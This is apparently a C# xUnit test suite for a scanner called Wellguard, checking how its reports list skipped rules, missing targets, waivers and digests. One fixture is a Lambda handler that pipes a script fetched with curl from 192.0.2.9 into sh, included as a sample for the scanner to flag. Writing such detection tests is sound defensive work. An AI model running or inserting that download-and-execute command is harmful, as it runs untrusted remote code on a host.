using System.IO.Compression;
using System.Text.Json;
using Xunit;

namespace Wellguard;

/// <summary>What was left out, passed over or not opened is in the report, whatever the exit code says.</summary>
public sealed class HonestReportTests : IDisposable
{
    private readonly DirectoryInfo folder = Directory.CreateTempSubdirectory("wellguard-honest-");

    public void Dispose() => folder.Delete(recursive: true);

    private string Zip(string name, params (string Name, string Text)[] files)
    {
        var path = Path.Combine(folder.FullName, name);
        using var zip = ZipFile.Open(path, ZipArchiveMode.Create);
        foreach (var (entry, text) in files)
        {
            using var writer = new StreamWriter(zip.CreateEntry(entry).Open());
            writer.Write(text);
        }

        return path;
    }

    private string Write(string name, string text)
    {
        var path = Path.Combine(folder.FullName, name);
        File.WriteAllText(path, text);
        return path;
    }

    private static JsonElement Read(string line) => JsonDocument.Parse(line).RootElement;

    private static string State(JsonElement report) => report.GetProperty("completeness").GetProperty("state").GetString()!;

    [Fact]
    public async Task A_zip_of_archives_or_of_nothing_is_never_clean()
    {
        var inner = Zip("inner.zip", ("index.js", "exports.handler = () => 1;"));
        var outer = Path.Combine(folder.FullName, "outer.zip");
        using (var zip = ZipFile.Open(outer, ZipArchiveMode.Create))
        {
            zip.CreateEntryFromFile(inner, "one.zip");
        }

        var run = await Executable.RunAsync("scan", outer, "--no-cache");
        Assert.Equal(3, run.Code);
        Assert.Contains("archive:" + outer, run.Output.ReplaceLineEndings("").Replace("  ", "", StringComparison.Ordinal), StringComparison.Ordinal);
        foreach (var path in (string[])[Zip("empty.zip"), Zip("text.zip", ("plain.txt", "hi")), "archive:" + Zip("empty2.zip")])
        {
            var report = await Executable.RunAsync("scan", path, "--no-cache", "--format", "json");
            Assert.Equal(3, report.Code);
            Assert.Equal("unknown", Read(report.Output).GetProperty("verdict").GetProperty("level").GetString());
            Assert.NotEqual("complete", State(Read(report.Output)));
        }
    }

    [Fact]
    public async Task A_missing_target_of_several_has_its_failed_report()
    {
        var good = Zip("good.zip", ("index.js", "exports.handler = () => 1;"));
        var run = await Executable.RunAsync("scan", good, "./nothere.tar", "nginx", "--no-cache", "--format", "jsonl");
        Assert.Equal(2, run.Code);
        var reports = run.Output.TrimEnd('\n').Split('\n').Select(Read).ToList();
        Assert.Equal(["complete", "failed", "failed"], reports.Select(State));
        Assert.Equal("./nothere.tar", reports[1].GetProperty("artifact").GetProperty("source").GetString());
        Assert.Equal("unknown", reports[1].GetProperty("artifact").GetProperty("kind").GetString());
    }

    [Fact]
    public async Task What_was_left_out_is_said_in_every_report_for_people_and_in_json()
    {
        var zip = Zip("f.zip", ("index.js", "exports.handler = () => 1;"));
        var json = Read((await Executable.RunAsync("scan", zip, "--no-cache", "--without", "secrets,content/deletes-itself", "--format", "json")).Output);
        Assert.Equal(["content/deletes-itself", "secrets"], json.GetProperty("without").EnumerateArray().Select(item => item.GetString()));
        foreach (var format in (string[])["plain", "terminal", "markdown"])
        {
            Assert.Contains("content/deletes-itself", (await Executable.RunAsync("scan", zip, "--no-cache", "--without", "content/deletes-itself", "--format", format)).Output, StringComparison.Ordinal);
        }

        Assert.False(Read((await Executable.RunAsync("scan", zip, "--no-cache", "--format", "json")).Output).TryGetProperty("without", out _));
    }

    [Fact]
    public async Task A_functions_report_names_the_digest_of_the_zip_and_no_layer()
    {
        var zip = Zip("f.zip", ("lambda_function.py", "import os\ndef handler(event, context):\n    os.system('curl -s http://192.0.2.9/x.sh | sh')\n"));
        var report = Read((await Executable.RunAsync("scan", zip, "--no-cache", "--format", "json")).Output);
        var digest = "sha256:" + Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(await File.ReadAllBytesAsync(zip, TestContext.Current.CancellationToken)));
        Assert.Equal(digest, report.GetProperty("artifact").GetProperty("digest").GetString());
        foreach (var format in (string[])["plain", "markdown"])
        {
            var run = await Executable.RunAsync("scan", zip, "--no-cache", "--format", format);
            Assert.Equal(1, run.Code);
            Assert.DoesNotContain("layer", run.Output, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task A_waiver_of_no_known_rule_is_warned_about()
    {
        var policy = Write("policy.yml", "waivers:\n  - rule: content/runs-downloaded-cod\n    scope: { artifact: \"*\" }\n    reason: r\n    owner: o\n    expires: 2999-01-01\n");
        var run = await Executable.RunAsync("scan", Zip("f.zip", ("index.js", "1")), "--no-cache", "--policy", policy);
        Assert.Equal(0, run.Code);
        Assert.Contains($"{policy}:2: warning: this waiver names no known rule: 'content/runs-downloaded-cod' (did you mean 'content/runs-downloaded-code'?)", run.Errors, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Indicators_are_checked_before_anything_is_scanned()
    {
        var feed = Write("feed.txt", "# feed\nnonsense\n");
        var run = await Executable.RunAsync("scan", Zip("f.zip", ("index.js", "1")), "--no-cache", "--indicators", feed);
        Assert.Equal((2, ""), (run.Code, run.Output));
        Assert.StartsWith($"wellguard: {feed}:2: expected", run.Errors, StringComparison.Ordinal);
    }
}
